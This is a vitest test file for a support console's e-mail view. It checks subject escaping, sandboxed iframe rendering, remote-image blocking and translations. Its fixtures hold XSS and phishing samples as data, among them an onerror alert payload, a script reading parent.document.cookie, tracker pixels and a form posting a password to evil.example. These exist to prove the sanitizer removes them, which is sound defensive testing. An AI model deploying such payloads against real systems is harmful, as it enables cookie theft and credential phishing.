/**
 * An e-mail in the console's timeline: subject, From, To and Cc as text; the trimmed
 * text with "show full message"; the original .eml to download; the HTML part, fetched
 * from the file route, in an `<iframe sandbox="">` whose `srcdoc` never carries a
 * script, an event handler, a form or a javascript: link, whose remote images (and CSS
 * urls) stay out until "load images", and whose `cid:` image is the message's own inline
 * file as a data: URL. happy-dom cannot drive DOMPurify (cure53/DOMPurify#1457), so these
 * assert the output of the whole pipeline, which our own pass after DOMPurify secures.
 */
import { afterEach, describe, expect, it } from "vitest";
import type { Attachment, EmailContent, MessageEvent } from "../../worker/protocol";
import { Timeline } from "../../console/conversation/timeline/timeline";
import { safeEmailHtml } from "../../console/conversation/timeline/email-html";
import { attachmentForCid } from "../../console/conversation/timeline/email-frame";
import { EMAIL_STRINGS } from "../../console/conversation/email-strings";
import { byText, click, message, mount, settle } from "./fakes";
import { DIRECTORY, ME, TAGS } from "./console-fixtures";
import { AT, maria } from "./channel-events";

const EVIL = '<img src=x onerror="alert(1)"><b>x</b>';
const PIXEL = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const PIXEL_DATA = "data:image/png;base64,iVBORw0KGgo=";

const HOSTILE_HTML = `<div><style>.logo{background:url(https://tracker.example/bg.png)} @import url("https://evil.example/x.css");</style>
<p onclick="steal()" style="color:#123456">Olá, <b>preciso</b> do boleto</p>
<script>parent.document.cookie</script>
<img src="https://tracker.example/open.gif?u=maria" onerror="alert(1)" width="1">
<img src="cid:image001.png@01DA2B3C.4D5E6F70" alt="logo">
<img src="/api/v1/me" alt="relative">
<a href="javascript:alert(1)">clique</a> <a href="https://loja.example/pedido/42" target="_blank">pedido</a>
<form action="https://evil.example/post"><input name="senha"><button>ok</button></form>
<p style="background-image: u\\72l(https://tracker.example/escaped.png)">x</p>
<svg><script>alert(2)</script></svg></div>`;

const email = (overrides: Partial<EmailContent> = {}): EmailContent => ({
  type: "email",
  subject: `Boleto vencido ${EVIL}`,
  from: { address: "maria@cliente.com.br", name: "Maria Souza" },
  to: [{ address: "suporte@loja.example", name: null }],
  cc: [{ address: "joao@cliente.com.br", name: "João" }, { address: "financeiro@loja.example", name: null }],
  messageId: "CAF=abc@mail.gmail.com",
  fullText: "Preciso do boleto.\n\nEm seg., Ana escreveu:\n> Olá Maria",
  htmlFileId: "html1",
  rawFileId: "raw1",
  ...overrides,
});

const inlineLogo: Attachment = { id: "img1", name: "image001.png", contentType: "image/png", size: PIXEL.length };

/** The file route as the Worker serves it, counting requests. */
function serveFiles(files: Record<string, { status?: number; body: BodyInit }>) {
  const requests: string[] = [];
  globalThis.fetch = (async (input: RequestInfo | URL) => {
    const path = new URL(String(input), "http://console.test").pathname;
    requests.push(path);
    const file = files[path];
    if (!file) return new Response("not found", { status: 404 });
    return new Response(file.body, { status: file.status ?? 200 });
  }) as typeof fetch;
  return requests;
}

async function show(event: Partial<MessageEvent>) {
  const { container } = await mount(
    <Timeline
      events={[message({ seq: 1, actor: maria, at: AT, body: "Preciso do boleto.", ...event })]}
      pending={[]}
      connection="online"
      typing={[]}
      contactReadSeq={0}
      ctx={{ myId: ME.agent.id, contactName: "Maria", directory: DIRECTORY }}
      channel="email"
      messageTags={{ bySeq: new Map(), set: () => {} }}
      tags={TAGS}
      atSeq={null}
      pages={{ loaded: true, hasOlder: false, olderState: "idle", loadOlder: async () => {} }}
      onRetry={() => {}}
      onDiscard={() => {}}
    />,
  );
  return container.querySelector(".message")!;
}

const frameDoc = (msg: Element) => {
  const frame = msg.querySelector("iframe")!;
  return { frame, srcdoc: frame.getAttribute("srcdoc") ?? (frame as HTMLIFrameElement).srcdoc };
};

afterEach(() => {
  document.body.innerHTML = "";
});

describe("an e-mail in the timeline", () => {
  it("shows subject, From, To and Cc as text, and the trimmed text", async () => {
    serveFiles({});
    const msg = await show({ content: email() });
    const lines = [...msg.querySelectorAll(".email-line")].map((l) => [l.querySelector("dt")!.textContent, l.querySelector("dd")!.textContent]);
    expect(lines).toEqual([
      ["Subject", `Boleto vencido ${EVIL}`],
      ["From", "Maria Souza <maria@cliente.com.br>"],
      ["To", "suporte@loja.example"],
      ["Cc", "João <joao@cliente.com.br>, financeiro@loja.example"],
    ]);
    // The subject's markup stayed characters: no element came out of it.
    expect(msg.querySelector(".email-head img, .email-head b")).toBeNull();
    expect(msg.querySelector(".email-text")!.textContent).toBe("Preciso do boleto.");
    // The formatted version waits for the agent: nothing fetched, no frame.
    expect(msg.querySelector("iframe")).toBeNull();
  });

  it("toggles between the trimmed text and the full message", async () => {
    serveFiles({});
    const msg = await show({ content: email() });
    const toggle = byText(msg, "Show full message", "button")!;
    expect(toggle.getAttribute("aria-pressed")).toBe("false");
    await click(toggle);
    expect(msg.querySelector(".email-text")!.textContent).toBe("Preciso do boleto.\n\nEm seg., Ana escreveu:\n> Olá Maria");
    expect(toggle.textContent).toBe("Show only the new text");
    await click(toggle);
    expect(msg.querySelector(".email-text")!.textContent).toBe("Preciso do boleto.");
  });

  it("has no toggle when nothing was trimmed, no frame button without HTML, and no original link without one", async () => {
    serveFiles({});
    const msg = await show({ content: email({ fullText: null, htmlFileId: null, rawFileId: null, cc: [], subject: "" }) });
    expect(byText(msg, "Show full message", "button")).toBeNull();
    expect(byText(msg, "Show formatted version", "button")).toBeNull();
    expect(msg.querySelector(".email-original")).toBeNull();
    expect(msg.querySelector(".email-cc")).toBeNull();
    expect(msg.querySelector(".email-subject dd")!.textContent).toBe("(no subject)");
  });

  it("links the original message for download from the file route", async () => {
    serveFiles({});
    const msg = await show({ content: email() });
    const link = msg.querySelector<HTMLAnchorElement>(".email-original")!;
    expect(link.getAttribute("href")).toBe("/api/v1/files/raw1");
    expect(link.getAttribute("download")).toBe("message.eml");
    expect(link.textContent).toBe("Download original (.eml)");
  });

  it("shows the HTML part sanitized in a sandbox=\"\" frame, remote images held back until asked", async () => {
    const requests = serveFiles({ "/api/v1/files/html1": { body: HOSTILE_HTML }, "/api/v1/files/img1": { body: PIXEL } });
    const msg = await show({ content: email(), attachments: [inlineLogo] });
    await click(byText(msg, "Show formatted version", "button"));
    await settle(6);
    const { frame, srcdoc } = frameDoc(msg);
    expect(frame.getAttribute("sandbox")).toBe("");
    expect(requests).toEqual(["/api/v1/files/html1", "/api/v1/files/img1"]);
    for (const bad of ["<script", "onerror", "onclick", "javascript:", "<form", "<input", "<button", "<svg", "tracker.example", "evil.example", "/api/v1/me", "@import", "steal("]) expect(srcdoc).not.toContain(bad);
    // What the customer wrote is there, and the cid: logo is the message's own inline file.
    expect(srcdoc).toContain("do boleto");
    expect(srcdoc).toContain(`src="${PIXEL_DATA}"`);
    // The link is kept as readable text with its address as a tooltip, not followable.
    expect(srcdoc).toContain('title="https://loja.example/pedido/42"');
    expect(srcdoc).not.toContain('href="https://loja.example');
    // The document's own policy forbids remote loads even if a URL slipped through.
    expect(srcdoc).toContain(`content="default-src 'none'; img-src data:;`);

    const notice = msg.querySelector(".email-images")!;
    expect(notice.textContent).toContain("remote images were not loaded");
    await click(byText(msg, "Load images", "button"));
    const after = frameDoc(msg).srcdoc;
    expect(after).toContain('src="https://tracker.example/open.gif?u=maria"');
    expect(after).toContain("img-src data: https: http:");
    for (const bad of ["<script", "onerror", "onclick", "javascript:", "<form", "/api/v1/me", "evil.example"]) expect(after).not.toContain(bad);
    expect(msg.querySelector(".email-images")).toBeNull();
    // Still the only frame, still sandboxed with nothing allowed.
    expect(msg.querySelectorAll("iframe")).toHaveLength(1);
    expect(msg.querySelector("iframe")!.getAttribute("sandbox")).toBe("");
  });

  it("says so when the HTML part cannot be fetched", async () => {
    serveFiles({ "/api/v1/files/html1": { status: 403, body: "{}" } });
    const msg = await show({ content: email() });
    await click(byText(msg, "Show formatted version", "button"));
    await settle(4);
    expect(msg.querySelector("iframe")).toBeNull();
    expect(msg.querySelector("[role=alert]")!.textContent).toBe("Could not load the formatted version: HTTP 403");
  });
});

describe("the HTML pass itself", () => {
  const noInline = { loadImages: false, inline: new Map<string, string>() };

  it("rewrites CSS urls in style elements and attributes, even spelled with escapes", () => {
    const out = safeEmailHtml(HOSTILE_HTML, noInline);
    expect(out.document).toContain(".logo{background:none}");
    expect(out.document).toContain('style="background-image: none"');
    // The open.gif, the stylesheet background and the escaped one were held back.
    expect(out.blockedRemote).toBe(3);
  });

  it("never loads a relative, protocol-relative or non-image data: URL, even with images allowed", () => {
    const html = `<p><img src="//cdn.example/a.png"><img src="../x.png"><img src="data:text/html;base64,PHNjcmlwdD4="><img src="data:image/svg+xml;base64,PHN2Zz4="><img src="${PIXEL_DATA}"></p>`;
    const out = safeEmailHtml(html, { loadImages: true, inline: new Map() });
    const srcs = [...out.document.matchAll(/src="([^"]*)"/g)].map((m) => m[1]);
    expect(srcs).toEqual([PIXEL_DATA]);
  });

  it("matches a cid: to its inline file by Content-ID, else by name as Outlook and Apple Mail name them", () => {
    expect(attachmentForCid("image001.png@01da2b3c.4d5e6f70", [inlineLogo])).toBe(inlineLogo);
    expect(attachmentForCid("image001.png", [inlineLogo])).toBe(inlineLogo);
    expect(attachmentForCid("ii_lx1", [inlineLogo])).toBeUndefined();
    // Gmail's ids name nothing in the file name: matched by the stored Content-ID.
    const gmail = { ...inlineLogo, name: "logo.png", contentId: "ii_LX1" };
    expect(attachmentForCid("ii_lx1", [inlineLogo, gmail])).toBe(gmail);
    // Never a non-image, whatever its name.
    expect(attachmentForCid("image001.png", [{ ...inlineLogo, contentType: "text/html" }])).toBeUndefined();
  });
});

describe("the words, in three languages", () => {
  it("every key in en, pt-BR and es, each translated", () => {
    const keys = (o: object): string[] => Object.entries(o).flatMap(([k, v]) => (typeof v === "object" ? keys(v).map((x) => `${k}.${x}`) : [k]));
    expect(keys(EMAIL_STRINGS["pt-BR"])).toEqual(keys(EMAIL_STRINGS.en));
    expect(keys(EMAIL_STRINGS.es)).toEqual(keys(EMAIL_STRINGS.en));
    expect(EMAIL_STRINGS["pt-BR"].showFull).toBe("Mostrar mensagem completa");
    expect(EMAIL_STRINGS.es.loadImages).toBe("Cargar imágenes");
    expect(EMAIL_STRINGS["pt-BR"].imagesBlocked(2)).toBe("2 imagens externas não foram carregadas, para que o remetente não saiba que você abriu a mensagem.");
    expect(EMAIL_STRINGS.es.reply.ccInvalid("x")).toBe("“x” no es una dirección de correo.");
  });
});
